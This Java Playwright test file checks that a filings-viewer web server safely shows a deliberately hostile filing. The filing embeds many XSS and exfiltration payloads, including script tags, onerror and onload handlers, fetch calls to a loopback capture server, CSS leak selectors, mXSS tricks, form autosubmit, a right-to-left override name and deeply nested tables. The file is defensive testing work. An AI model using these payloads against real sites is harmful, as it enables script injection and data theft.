package eightk.server;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.options.ColorScheme;
import com.sun.net.httpserver.HttpServer;
import eightk.model.Bytes;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// A filing that means harm, in a real browser: nothing of it runs, fetches or frames, wherever it is shown.
@Tag("deep")
@Timeout(240)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileFilingTest {

    private static final String NUMBER = "0009990001-12-000666";

    /// Bytes of tables in tables.
    private static final int NESTED = 5 << 20;

    /// Milliseconds for five megabytes on a busy machine.
    private static final int PATIENCE = 90_000;

    /// Would turn the words after it around.
    private static final String TURNED = "Harmless \u202Etxt.exe Co";

    private final List<String> asked = new CopyOnWriteArrayList<>();
    private HttpServer elsewhere;
    private RealBrowser browser;
    private RunningServer web;

    @BeforeAll
    void start() throws IOException {
        browser = RealBrowser.start();
        elsewhere = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        elsewhere.createContext("/", exchange -> {
            asked.add(exchange.getRequestURI().toString());
            exchange.sendResponseHeaders(204, -1);
            exchange.close();
        });
        elsewhere.start();
        web = new RunningServer();
        var sample =
                Sample.numbered(NUMBER).of("HARMLESS").saying(document(NESTED)).with("""
                        <DOCUMENT>
                        <TYPE>EX-99.1
                        <SEQUENCE>2
                        <FILENAME>evil.htm
                        <TEXT>
                        %s
                        </TEXT>
                        </DOCUMENT>
                        """.formatted(document(0)));
        var text = new String(sample.bytes().open().readAllBytes(), Charset.forName("windows-1252"));
        web.server
                .intake()
                .mirror(Bytes.of(text.replace("HARMLESS", TURNED)
                        .replace("report.txt", "report.htm")
                        .getBytes(StandardCharsets.UTF_8)));
    }

    @AfterAll
    void stop() {
        if (web != null) {
            web.close();
            elsewhere.stop(0);
            browser.close();
        }
    }

    /// @param nested bytes of tables in tables at its end
    private String document(int nested) {
        var there = "http://127.0.0.1:%d".formatted(elsewhere.getAddress().getPort());
        var nest = "<table><tr><td>";
        return """
                <html><head>
                <meta http-equiv="refresh" content="0;url=%1$s/refresh">
                <base href="%1$s/base/">
                <link rel="stylesheet" href="%1$s/sheet.css"><link rel="prefetch" href="%1$s/prefetch">
                <link rel="dns-prefetch" href="%1$s"><link rel="icon" href="%1$s/icon">
                <style>@import url(%1$s/import.css); @font-face{font-family:x;src:url(%1$s/font)}
                input[value^="a"]{background:url(%1$s/leak-a)} body{background:url(%1$s/style);font-family:x}</style>
                <script src="%1$s/script.js"></script>
                <script>document.title='owned';fetch('%1$s/fetch');new Image().src='%1$s/image'</script>
                </head><body onload="document.title='owned';fetch('%1$s/onload')" background="%1$s/background">
                Item 8.01 Other Events
                <p>The depot opened.</p>
                <p style="background:url('%1$s/inline');position:fixed;top:0;left:0;width:100%%;height:100%%">cover</p>
                <img src="%1$s/img.png" onerror="fetch('%1$s/onerror')"><img src="/stolen.png"><img src=x onerror=alert(1)>
                <svg onload="fetch('%1$s/svg')"><image href="%1$s/svgimage"/><script>alert(2)</script></svg>
                <iframe src="%1$s/frame" srcdoc="<script>alert(3)</script>"></iframe><object data="%1$s/object"></object>
                <embed src="%1$s/embed"><video poster="%1$s/poster" src="%1$s/video"></video><audio src="%1$s/audio"></audio>
                <form action="%1$s/form" method="post"><input value="abc" autofocus onfocus="this.form.submit()"></form>
                <a href="javascript:alert(4)" ping="%1$s/ping">link</a><a href="%1$s/link">away</a>
                <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(5)&gt;">
                </table></math><noscript><p title="</noscript><img src=x onerror=alert(6)>"></noscript>
                %2$s
                """.formatted(there, nest.repeat(nested / nest.length()));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/",
                "/filings/" + NUMBER,
                "/filings/" + NUMBER + "?beside",
                "/filings/" + NUMBER + "/original",
                "/companies/9990001",
                "/search?q=depot",
                "/search?q=harmless&level=item",
                "/Archives/edgar/data/9990001/000999000112000666/evil.htm",
                "/Archives/edgar/data/9990001/000999000112000666/0009990001-12-000666.txt",
                "/Archives/edgar/data/9990001/000999000112000666/0009990001-12-000666-index.htm"
            })
    void nothingOfItRunsFetchesOrFrames(String path) {
        var page = browser.window(1_280, ColorScheme.LIGHT);
        var dialogs = new CopyOnWriteArrayList<String>();
        var answered = new CopyOnWriteArrayList<String>();
        page.onDialog(dialog -> {
            dialogs.add(dialog.message());
            dialog.dismiss();
        });
        page.onResponse(response -> answered.add(response.url()));
        page.setDefaultNavigationTimeout(PATIENCE);
        page.navigate(web.server.address().resolve(path).toString());
        page.waitForTimeout(500);
        assertThat(asked).isEmpty();
        assertThat(dialogs).isEmpty();
        assertThat(page.title()).isNotEqualTo("owned");
        assertThat(page.url()).endsWith(path);
        assertThat(answered)
                .allMatch(url -> url.startsWith(web.server.address().toString()))
                .noneMatch(url -> url.contains("stolen"));
        page.context().close();
    }

    @ParameterizedTest
    @ValueSource(strings = {"/", "/filings/" + NUMBER, "/companies/9990001", "/search?q=depot"})
    void aNameTurnsNoWords(String path) {
        var page = browser.window(1_280, ColorScheme.LIGHT);
        page.navigate(web.server.address().resolve(path).toString());
        assertThat(page.content()).doesNotContain("\u202E").contains("txt.exe Co");
        page.context().close();
    }
}
